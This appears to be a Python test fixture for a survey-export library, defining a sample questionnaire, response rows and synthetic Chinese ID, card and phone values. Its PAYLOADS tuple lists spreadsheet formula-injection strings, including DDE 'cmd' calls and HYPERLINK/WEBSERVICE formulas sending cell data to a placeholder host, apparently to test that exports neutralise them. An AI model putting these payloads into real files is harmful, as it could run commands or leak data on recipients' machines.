"""A small questionnaire with every kind of answer, rows of it, and texts that a spreadsheet could run."""

from datetime import UTC, datetime
from pathlib import Path

import exports
from exports.codebook import Codebook
from exports.outcome import Written
from exports.rows import Row
from tests.questionnaires import building

VERSION = "3f2a" * 16
SUBMITTED = datetime(2026, 1, 31, 15, 59, 59, tzinfo=UTC)  # 23:59:59 in Shanghai

SMALL = building.questionnaire(
    building.single("csat"),
    {**building.single("segment"), "options": building.points("hnw", "sme")},
    building.matrix(),
    building.multiple(),
    building.nps(),
    building.open_text("suggestion", max_length=20_000),
)
BOOK: Codebook = exports.build([(VERSION, SMALL)])

ID_CARD = "11010119900307888X"
CARD = "622202021234567890"
MOBILE = "13800138000"
HAN_AND_EMOJI = '𠮷野家😀很好\n第二行,“引号”"quote"'

PAYLOADS = (
    *(
        f"{start}{body}"
        for start in ("", " ", "\u3000", "\ufeff", "\u00a0 ", "\u200b", "\n ")
        for body in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "＝1+1", "＋1", "－1", "＠A1")
    ),
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "\tx",
    "\rx",
    "\0x",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    '=WEBSERVICE(CONCATENATE("http://example.invalid/",A1))',
    "@=1+1",
    "-2+3+cmd|' /C calc'!D2",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫A1",
)


def row(number: int = 1, version: str = VERSION, **answers: object) -> Row:
    return Row(
        id=f"r{number}",
        version=version,
        wave="2026 第一季度",
        collector="c0ffee",
        branch="E11",
        channel="qr",
        locale="zh",
        status="complete",
        started_at=None,
        submitted_at=SUBMITTED,
        received_at=SUBMITTED,
        answers=answers,
    )


def write(
    folder: Path, format: str, *rows: Row, book: Codebook = BOOK, language: str = "zh"
) -> tuple[Path, Written]:
    out = folder / f"out{exports.FORMATS[format].suffix}"
    return out, exports.write(format, rows, book, out, language)
